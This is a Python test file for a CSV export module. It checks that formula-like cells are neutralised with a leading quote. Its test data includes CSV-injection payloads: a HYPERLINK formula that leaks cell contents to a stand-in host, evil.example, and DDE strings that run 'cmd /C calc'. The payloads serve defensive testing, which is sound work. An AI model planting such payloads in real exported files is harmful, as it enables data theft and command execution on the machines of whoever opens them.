"""The one CSV writer: every cell a spreadsheet would evaluate is neutralised, in every file."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from connector.cli.preview import run_preview
from connector.csv_out import csv_bytes, csv_parts, neutralise_cell, write_csv
from tests.core.helpers import DEFAULT_MAPPING, HR_EXTRACT

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_like_cell_gets_a_leading_quote(cell: str) -> None:
    assert neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["100004", "Jane", "", "a=b", "x+1", None, 42])
def test_a_plain_cell_is_written_as_is(cell: object) -> None:
    assert neutralise_cell(cell) == ("" if cell is None else str(cell))


def test_write_csv_neutralises_every_cell_and_still_round_trips() -> None:
    out = io.StringIO()
    n = write_csv(out, ["=h", "b"], [[c, "ok"] for c in FORMULAS])
    assert n == len(FORMULAS)
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows[0] == ["'=h", "b"]
    assert [r[0] for r in rows[1:]] == ["'" + c for c in FORMULAS]
    assert csv_bytes(["a"], [["@x"]]) == b"a\r\n'@x\r\n"


def test_preview_rejected_csv_neutralises_formula_ids(tmp_path: Path) -> None:
    """Ids that look like formulas, each on two rows (duplicates are rejected with their id)."""
    lines = HR_EXTRACT.read_text(encoding="utf-8").splitlines(keepends=True)
    ids = ["=1+1", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-1+1"]
    body = []
    for i, fake in enumerate(ids):
        for row in lines[1 + 2 * i : 3 + 2 * i]:
            body.append(fake + row[row.index(",") :])
    extract = tmp_path / "formulas.csv"
    extract.write_text(lines[0] + "".join(body) + "".join(lines[9:]), encoding="utf-8")
    summary = run_preview(DEFAULT_MAPPING, extract, tmp_path / "out")
    assert summary.rejected_by_reason == {"duplicate_external_id": 8}
    text = (tmp_path / "out" / "rejected.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["line", "externalId", "reason", "message"]
    assert sorted({r[1] for r in rows[1:]}) == sorted("'" + i for i in ids)
    for r in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in r)


def test_csv_parts_are_the_header_then_blocks_of_rows_joining_to_the_one_file() -> None:
    rows = [(f"E{i}", "=1+1", "a,b") for i in range(10)]
    parts = list(csv_parts(("id", "formula", "text"), rows, block=4))
    assert len(parts) == 1 + 3
    assert parts[0] == b"id,formula,text\r\n"
    assert b"".join(parts) == csv_bytes(("id", "formula", "text"), rows)
